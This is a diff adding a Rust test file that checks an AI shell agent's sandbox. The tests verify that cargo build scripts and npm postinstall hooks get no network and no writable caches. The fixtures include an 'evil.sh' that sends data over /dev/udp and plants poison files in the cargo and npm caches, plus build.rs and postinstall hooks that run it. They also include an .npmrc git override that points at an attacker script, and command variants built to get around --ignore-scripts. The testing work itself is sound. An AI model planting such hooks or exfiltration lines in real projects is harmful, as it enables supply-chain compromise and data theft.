@@ -1,0 +1,179 @@
+//! Rule: the network and writable caches go to a package manager's fetch only in a form that
+//! runs no project code: a code-free fetch run first (the command itself then runs offline),
+//! or a command that runs none itself. A build script or an npm lifecycle script is the
+//! attacker here: whatever the line looks like, it must run with neither (round 5).
+
+use serde_json::json;
+
+use crate::harness::Ai;
+use crate::launcher::require_sandbox;
+use crate::sandbox::{ai_in, with_toolchains};
+use crate::sandbox_network::udp_listener;
+use crate::server::{FakeServer, text_reply, tool_reply};
+
+/// The attacker's script, run by a build script or a lifecycle script as `sh evil.sh WHO`: it
+/// says it ran (in the project), then tries the network (UDP to `port`) and the caches.
+fn evil(ai: &Ai, port: u16) -> String {
+    let registry = ai.home().join(".cargo/registry");
+    let npm = ai.home().join(".npm");
+    format!(
+        "echo ran >> \"{work}/ran-$1\"\n\
+         bash -c 'echo LEAK > /dev/udp/127.0.0.1/{port}' 2>/dev/null\n\
+         touch \"{registry}/poison-$1\" \"{npm}/poison-$1\" 2>/dev/null\n\
+         mkdir -p \"{npm}/_npx/x\" 2>/dev/null\n",
+        work = ai.work().display(),
+        registry = registry.display(),
+        npm = npm.display(),
+    )
+}
+
+/// A project whose cargo build script and npm postinstall both run `evil.sh`.
+fn project(port: u16) -> Ai {
+    let ai = with_toolchains(ai_in(false));
+    for cache in [".cargo/registry", ".npm"] {
+        std::fs::create_dir_all(ai.home().join(cache)).unwrap();
+    }
+    let script = evil(&ai, port);
+    ai.file("evil.sh", &script)
+        .file(
+            "Cargo.toml",
+            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
+        )
+        .file(
+            "build.rs",
+            "fn main() { let _ = std::process::Command::new(\"sh\").args([\"evil.sh\", \"cargo\"]).status(); }\n",
+        )
+        .file("src/lib.rs", "")
+        .file(
+            "package.json",
+            r#"{"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "sh evil.sh npm"}}"#,
+        )
+        .file(
+            "package-lock.json",
+            r#"{"name": "demo", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
+                "packages": {"": {"name": "demo", "version": "1.0.0"}}}"#,
+        )
+        .env("SWEBASH_AI_EXEC_TIMEOUT", "120")
+}
+
+/// Runs `command` as the model's one call, approved (`--yes`: inside the sandbox), and says
+/// what the attacker's script got: a message for each grant it had, empty when it had none.
+fn attack(command: &str, who: &str) -> Vec<String> {
+    attack_with(&[command], who, &[])
+}
+
+/// The same with these files laid over the project (`WORK` in them: the project's path), and
+/// `commands` run as one call each.
+fn attack_with(commands: &[&str], who: &str, files: &[(&str, &str)]) -> Vec<String> {
+    let (listener, port) = udp_listener();
+    let mut script: Vec<_> = (commands.iter().enumerate())
+        .map(|(i, command)| {
+            tool_reply(&[(
+                &format!("c{i}"),
+                "execute_command",
+                json!({ "command": command }),
+            )])
+        })
+        .collect();
+    script.push(text_reply("done"));
+    let server = FakeServer::start(script);
+    let mut ai = project(port);
+    let work = ai.work().display().to_string();
+    for (path, text) in files {
+        ai = ai.file(path, &text.replace("WORK", &work));
+    }
+    let ai = ai
+        .env("SWEBASH_AI_BASE_URL", &server.url)
+        .args(&["--json", "--yes", "go"]);
+    let run = ai.run();
+    let mut got = Vec::new();
+    if !ai.work().join(format!("ran-{who}")).exists() {
+        got.push(format!(
+            "the {who} script never ran: {}",
+            server.last_tool_result()
+        ));
+    }
+    let mut buf = [0u8; 8];
+    if listener.recv(&mut buf).is_ok() {
+        got.push("reached the UDP listener".into());
+    }
+    for cache in [".cargo/registry", ".npm"] {
+        let dir = ai.home().join(cache);
+        if dir.join(format!("poison-{who}")).exists() || dir.join("_npx/x").exists() {
+            got.push(format!("wrote {cache}"));
+        }
+    }
+    if !got.is_empty() {
+        got.push(run.stderr);
+    }
+    got
+}
+
+#[test]
+fn a_line_whose_code_free_fetch_is_dropped_gets_no_network_and_no_cache_to_write() {
+    if !require_sandbox() {
+        return;
+    }
+    for (command, who) in [
+        ("cd . && cargo build", "cargo"),
+        ("cargo build --manifest-path Cargo.toml", "cargo"),
+        ("cargo tree >/dev/null && cargo build", "cargo"),
+        ("cargo build && npm install --no-audit", "cargo"),
+        ("cd . && npm install --no-audit", "npm"),
+        ("npm install --no-audit && npm ci", "npm"),
+    ] {
+        let got = attack(command, who);
+        assert!(got.is_empty(), "{command}: {got:?}");
+    }
+}
+
+#[test]
+fn npm_is_told_to_run_no_scripts_where_its_arguments_cannot_undo_it() {
+    if !require_sandbox() {
+        return;
+    }
+    for command in [
+        "npm ci --",
+        "npm ci -- --ignore-scripts",
+        "npm ci --ignore-scripts=false",
+        "npm ci --no-ignore-scripts",
+        "npm ci --foreground-scripts",
+    ] {
+        let got = attack(command, "npm");
+        assert!(got.is_empty(), "{command}: {got:?}");
+    }
+}
+
+#[test]
+fn a_fetch_told_to_work_elsewhere_gets_no_network() {
+    if !require_sandbox() {
+        return;
+    }
+    // A directory whose `.npmrc`, made by a first call, names the git npm runs for a git
+    // dependency (round 5b: the check for such configuration looked only above the working
+    // directory).
+    let files = [
+        ("sub/npmrc", "git=WORK/sub/g.sh\n"),
+        (
+            "Makefile",
+            "all:\n\tcp sub/npmrc sub/.npmrc\n\tchmod +x sub/g.sh\n",
+        ),
+        ("sub/g.sh", "#!/bin/sh\nsh WORK/evil.sh git\nexit 1\n"),
+        (
+            "sub/package.json",
+            r#"{"name": "sub", "version": "1.0.0",
+                "dependencies": {"x": "git+https://127.0.0.1:9/attacker/x.git"}}"#,
+        ),
+    ];
+    for command in [
+        "npm install --prefix=sub --no-audit",
+        "npm --prefix=sub install --no-audit",
+        "cd sub && npm install --no-audit",
+    ] {
+        let got = attack_with(&["make", command], "git", &files);
+        let blocked = got
+            .iter()
+            .all(|g| !g.contains("reached") && !g.contains("wrote"));
+        assert!(blocked, "{command}: {got:?}");
+    }
+}
